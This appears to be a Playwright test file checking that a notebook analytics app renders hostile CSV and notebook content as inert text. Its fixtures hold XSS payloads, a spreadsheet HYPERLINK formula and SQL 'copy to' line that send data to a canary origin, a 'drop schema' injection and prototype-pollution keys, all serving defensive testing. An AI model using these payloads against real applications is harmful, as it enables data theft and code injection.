import type { Page } from '@playwright/test';
import type { NotebookDocument } from '../../src/document/types';
import { expect, test } from './fixtures';
import { allCurrent, cellNamed, openTab } from './notebook-page';

/**
 * What a client's file or a stranger's notebook can hold, shown everywhere it is shown: it stays text. This is all that
 * stands against a link that carries data away, which no content security policy forbids.
 */
const hostile = (origin: string) => ({
  image: `<img src="${origin}/image" onerror="window.ran = 1">`,
  script: `</script><script src="${origin}/script.js"></script><script>window.ran = 1</script>`,
  style: `<style>@import url(${origin}/style.css); * { background: url(${origin}/background) }</style>`,
  drawing: `<svg onload="window.ran = 1"><image href="${origin}/svg"/></svg>`,
  link: `<a href="${origin}/?d=1">click</a>`,
  markdown: `![picture](${origin}/markdown) [click](${origin}/?d=2)`,
  formula: `=HYPERLINK("${origin}/?d="&A1,"click")`,
  command: `'; copy customers to '${origin}/sql`,
});

const field = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Orders in which every text is hostile: customers, products, channels, and the names of columns nobody needs. */
function hostileOrders(origin: string): string {
  const texts = Object.values(hostile(origin));
  const usual = ['customer_id', 'order_id', 'order_date', 'amount', 'product', 'channel'];
  const header = [...usual, ...texts.slice(0, 3), '__proto__', 'constructor'];
  const lines = Array.from({ length: 120 }, (_, n) => {
    const text = texts[n % texts.length] ?? '';
    // Each text is three customers, who come back at their own pace.
    const customer = `${text}${n % 3}`;
    const day = `2025-${String((n % 12) + 1).padStart(2, '0')}-${String((n % 27) + 1).padStart(2, '0')}`;
    return [customer, `${text}${n}`, day, `${(n % 40) + 1}.90`, text, text, text, text, text, text, text];
  });
  return [header, ...lines].map((line) => line.map(field).join(',')).join('\n');
}

/** Nothing of it became an element, an address or a script. */
async function expectInert(page: Page, origin: string): Promise<void> {
  const active = await page.evaluate((address) => {
    const found = [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(
          ({ name, value }) =>
            /^(src|srcset|href|xlink:href|action|data|poster|style|on\w+)$/.test(name) &&
            value.includes(address),
        )
        .map(({ name, value }) => `<${element.localName} ${name}="${value}">`),
    );
    return {
      found,
      scripts: document.body.querySelectorAll('script').length,
      styles: [...document.querySelectorAll('style')].filter((style) => style.textContent?.includes(address))
        .length,
      ran: 'ran' in window,
      polluted: 'polluted' in {},
    };
  }, origin);
  expect(active).toEqual({ found: [], scripts: 0, styles: 0, ran: false, polluted: false });
}

test('a hostile order file stays text from the import dialog to the last table', async ({
  regulars,
  page,
  canary,
}) => {
  const texts = hostile(canary.origin);
  await regulars.openReady();
  await regulars.drop({ name: `${'<img src=x onerror=ran=1>'}.csv`, text: hostileOrders(canary.origin) });
  const dialog = page.getByRole('dialog');
  await expect(dialog).toContainText('120');
  await expect(dialog).toContainText(texts.image);
  await expect(dialog).toContainText('__proto__');
  await expectInert(page, canary.origin);
  await dialog.getByRole('button', { name: /^Import \d+ orders$/ }).click();
  await allCurrent(page);
  await expectInert(page, canary.origin);

  for (const title of ['Cohort retention', 'RFM segments', 'Repurchase interval']) {
    for (const tab of ['Table', 'SQL', 'Method', 'Plot'] as const) {
      await openTab(cellNamed(page, title), tab);
      await expectInert(page, canary.origin);
    }
  }
  const segments = cellNamed(page, 'RFM segments');
  await openTab(segments, 'Table');
  await segments.getByRole('combobox', { name: 'Result' }).selectOption('customers');
  for (const text of Object.values(texts)) await expect(segments.getByRole('table')).toContainText(text);
  await expectInert(page, canary.origin);

  const customers = await regulars.query('select count(*)::integer as n from customers');
  expect(customers).toEqual([{ n: 24 }]);
});

/** A notebook as somebody else could have written it: every text hostile, and keys that reach for the prototype. */
function hostileNotebook(document: NotebookDocument, origin: string): unknown {
  const { image, drawing } = hostile(origin);
  const texts = Object.values(hostile(origin));
  const all = texts.join(' ');
  const [source] = document.sources;
  const segments = texts.map((name, index) => ({
    id: `s${index}`,
    name,
    analysis: 'rfm-segments',
    params: { scheme: name },
    mark: name,
    customers: 3,
  }));
  const changed = {
    ...document,
    title: all,
    description: all,
    sources: [{ ...source, name: all }],
    segments,
    cells: [
      ...document.cells.map((cell) => ({ ...cell, title: all })),
      { id: image, kind: image, content: all },
      { id: 'missing', kind: 'analysis', analysis: drawing, analysisVersion: 1, title: all, params: {} },
    ],
    stranger: 'PROTOTYPE',
  };
  // Written into the text: an object literal would set the prototype instead.
  const pollution = '"__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } }';
  const text = JSON.stringify(changed)
    .replace('"stranger":"PROTOTYPE"', pollution)
    .replaceAll('"params":{', `"params":{${pollution},`)
    .replaceAll(',}', '}');
  return JSON.parse(text);
}

test('a hostile notebook stays text, and reaches no prototype', async ({ regulars, page, canary }) => {
  await regulars.openReady();
  await regulars.importFile({ name: 'orders.csv', text: hostileOrders(canary.origin) });
  await allCurrent(page);
  const document = await regulars.document();
  if (!document) throw new Error('No notebook is open');
  const report = await regulars.openDocument(hostileNotebook(document, canary.origin));
  expect(report).toMatchObject({ opened: true, message: null });

  const texts = Object.values(hostile(canary.origin));
  await expect(page.getByRole('heading', { level: 1 })).toContainText(texts.join(' '));
  await expectInert(page, canary.origin);
  const segments = page.getByRole('list', { name: 'Segments' });
  for (const text of texts) await expect(segments).toContainText(text);
  for (const segment of await segments.getByRole('button', { name: /^(?!Remove)/ }).all())
    await segment.click();
  await expectInert(page, canary.origin);

  const kept = JSON.stringify(await regulars.document());
  expect(kept).not.toContain('polluted');
  expect(await regulars.query('select 1::integer as n')).toEqual([{ n: 1 }]);
});

test('a hostile column name is read as the name of a column', async ({ regulars, canary }) => {
  await regulars.openReady();
  const { command, drawing } = hostile(canary.origin);
  for (const text of [command, drawing, `"; drop schema shop cascade; --`, '\\']) {
    const [customer, orderedAt, amount] = ['who', 'when', 'much'].map((end) => `${text} ${end}`) as [
      string,
      string,
      string,
    ];
    const rows = Array.from({ length: 12 }, (_, n) => [`c${n % 4}`, `2025-0${(n % 6) + 1}-11`, '2.50']);
    const csv = [[customer, orderedAt, amount], ...rows].map((line) => line.map(field).join(',')).join('\n');
    const report = await regulars.importFile(
      { name: 'names.csv', text: csv },
      { mapping: { customer, orderedAt, amount } },
    );
    expect(report).toMatchObject({ rowsRead: 12, rowsUsed: 12, customers: 4, revenue: 30 });
  }
});
